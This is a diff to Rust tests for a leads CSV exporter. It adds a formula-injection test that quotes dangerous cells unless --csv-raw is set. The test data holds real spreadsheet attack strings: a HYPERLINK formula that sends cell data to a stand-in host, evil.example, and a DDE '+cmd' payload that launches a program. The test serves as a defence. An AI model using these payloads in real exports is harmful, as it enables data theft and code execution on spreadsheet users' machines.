@@ -25,6 +25,8 @@ fn args(upstream: &str, format: OutputFormat) -> LeadsArgs {
         upstream: upstream.into(),
         max_pages: 1000,
         attempts: 3,
+        csv_raw: false,
+        upstream_ca: None,
     }
 }
 
@@ -86,7 +88,8 @@ async fn every_page_in_every_format() {
         let row: Vec<&str> = rows[7].iter().collect();
         assert_eq!(
             row[..8],
-            [uuid(7).as_str(), "Lead 7", "lead7@example.com", "+442079460958", "OPEN", "a;b", "plan=pro;seats=7", "2"]
+            // The phone begins with `+`: quoted, as every cell a spreadsheet would run (see below).
+            [uuid(7).as_str(), "Lead 7", "lead7@example.com", "'+442079460958", "OPEN", "a;b", "plan=pro;seats=7", "2"]
         );
         assert!(row[8].ends_with('Z') && row[9].ends_with('Z'));
 
@@ -156,6 +159,85 @@ async fn transient_errors_are_retried_and_bounded() {
         bad.bot_id = " ".into();
         let (result, _) = output(&bad, TOKEN).await;
         assert!(matches!(result, Err(LeadsError::Rejected { status: 400, .. })));
+        mock.shutdown().await.unwrap();
+    })
+    .await
+}
+
+/// CSV formula injection (issue #19): a visitor sets their own name, tags and attributes
+/// through the proxy; the CSV quotes every cell a spreadsheet would run, unless --csv-raw.
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_are_quoted_unless_raw() {
+    bounded(async {
+        let mock = start_mock().await;
+        let proxy = proxy_to(&mock.url()).await;
+        let name = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+        let mut lead = base_lead(1);
+        lead["name"] = json!(name);
+        lead["tags"] = json!(["@SUM(1+1)"]);
+        lead["attributes"] = json!({"cmd": "+cmd|' /C calc'!A0"});
+        let (status, body) = put_json(&proxy.url(), &lead).await;
+        assert_eq!(status, 200, "{body}");
+        let mut second = base_lead(2);
+        second["name"] = json!("Ann");
+        second["tags"] = json!(["-1+2"]);
+        second["attributes"] = json!({"k": "@x"});
+        assert_eq!(put_json(&proxy.url(), &second).await.0, 200);
+
+        let rows = |text: String| {
+            let mut reader = csv::Reader::from_reader(text.as_bytes());
+            reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect::<Vec<_>>()
+        };
+        let (count, text) = output(&args(&mock.url(), OutputFormat::Csv), TOKEN).await;
+        assert_eq!(count.unwrap(), 2);
+        let safe = rows(text);
+        assert_eq!(safe[0][1], format!("'{name}"));
+        assert_eq!(safe[0][5], "'@SUM(1+1)");
+        // The attributes cell begins with the key, not with the value a visitor typed.
+        assert_eq!(safe[0][6], "cmd=+cmd|' /C calc'!A0");
+        assert_eq!(safe[1][1], "Ann");
+        assert_eq!(safe[1][5], "'-1+2");
+        for row in &safe {
+            for cell in row {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run");
+            }
+        }
+
+        let mut raw = args(&mock.url(), OutputFormat::Csv);
+        raw.csv_raw = true;
+        let (_, text) = output(&raw, TOKEN).await;
+        let raw = rows(text);
+        assert_eq!(raw[0][1], name);
+        assert_eq!(raw[0][5], "@SUM(1+1)");
+
+        for (cell, expected) in [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@a", "'@a"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=1", "a=1"),
+            ("", ""),
+        ] {
+            assert_eq!(reekolect_proxy::leads::csv_safe(cell.to_string()), expected);
+        }
+        proxy.shutdown().await.unwrap();
+        mock.shutdown().await.unwrap();
+    })
+    .await
+}
+
+/// Nothing reaches the output before the first page: a refused token leaves it empty.
+#[tokio::test]
+async fn nothing_is_written_before_the_first_page() {
+    bounded(async {
+        let mock = start_mock().await;
+        for format in [OutputFormat::Json, OutputFormat::Ndjson, OutputFormat::Csv] {
+            let (result, text) = output(&args(&mock.url(), format), "wrong-token-0123456789").await;
+            assert!(matches!(result, Err(LeadsError::Rejected { status: 401, .. })));
+            assert_eq!(text, "", "{format:?}");
+        }
         mock.shutdown().await.unwrap();
     })
     .await
